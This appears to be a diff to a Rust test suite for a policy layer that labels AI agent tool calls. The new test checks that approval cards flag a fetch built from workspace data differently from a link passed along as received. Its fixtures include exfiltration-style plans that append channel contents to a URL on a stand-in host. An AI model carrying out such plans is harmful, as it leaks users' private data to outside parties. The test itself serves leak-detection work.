@@ -792,7 +792,7 @@ struct Workspace(Vec<String>);
 impl ToolHost for Workspace {
     fn perform(&mut self, call: &ToolCall<'_>) -> Result<Json, String> {
         match call.tool() {
-            "read" => Ok(Json::String("launch on friday".into())),
+            "read" => Ok(Json::String("launch on friday, see https://example.com/launch.".into())),
             tool => {
                 self.0.push(format!("{tool} {}", serde_json::to_string(&call.args).unwrap()));
                 Ok(Json::Null)
@@ -856,4 +856,36 @@ fn a_release_with_a_card_lets_the_groups_data_out_on_the_users_yes_for_that_call
 fn a_release_no_one_need_agree_to_lets_it_out_without_a_card() {
     let (sent, cards, _) = in_workspace(r#"release "workspace" to untrusted() @approval(none)"#, LEAK, Answer::No);
     assert_eq!((sent.len(), cards.len()), (1, 0), "{sent:?} {cards:?}");
+}
+
+/// A release lets out what the request named, or a text as the run received it (a link as it
+/// was posted); a text built from the group's data may carry any of it, and its card says so in
+/// a flag: "fetch `site?q=<the channel>`" is not shown like "fetch the link".
+#[test]
+fn a_release_card_tells_a_text_received_as_it_is_from_one_built_from_the_groups_data() {
+    let release = r#"release "workspace" to untrusted()"#;
+    let built_from = "is built from the data of the group `workspace`, not received as it is";
+    let link = r#"chat.fetch(chat.read().words().filter(|w| w.starts_with("https://")).first().unwrap_or(""))"#;
+    let (sent, cards, _) = in_workspace(release, link, Answer::Yes);
+    assert_eq!(sent, [r#"fetch {"url":"https://example.com/launch."}"#]);
+    let [card] = cards.as_slice() else { panic!("one card: {cards:?}") };
+    let flow = &card.flows[0];
+    assert!(flow.as_received && flow.let_out == ["workspace"], "{flow:?}");
+    assert!(flow.meaning.ends_with("this text, word for word as it was received"), "{}", flow.meaning);
+    assert!(!card.flags.iter().any(|f| f.says.contains(built_from)), "{:?}", card.flags);
+    // Whatever builds the text (around a link, changing it, the whole of the news), it is built.
+    let built = [
+        LEAK,
+        r#"chat.fetch("https://example.com/launch?more=" + chat.read().words().first().unwrap_or(""))"#,
+        r#"chat.fetch(chat.read().to_upper())"#,
+        r#"chat.fetch(chat.read().replace(" ", "+"))"#,
+        r#"chat.fetch(chat.read().words().join(""))"#,
+    ];
+    for plan in built {
+        let (_, cards, _) = in_workspace(release, plan, Answer::Yes);
+        let [card] = cards.as_slice() else { panic!("{plan}: one card: {cards:?}") };
+        assert!(!card.flows[0].as_received, "{plan}: {:?}", card.flows[0]);
+        assert!(card.flows[0].meaning.ends_with("a text built from that data, which may carry any of it"), "{plan}");
+        assert!(card.flags.iter().any(|f| f.says.contains(built_from)), "{plan}: {:?}", card.flags);
+    }
 }
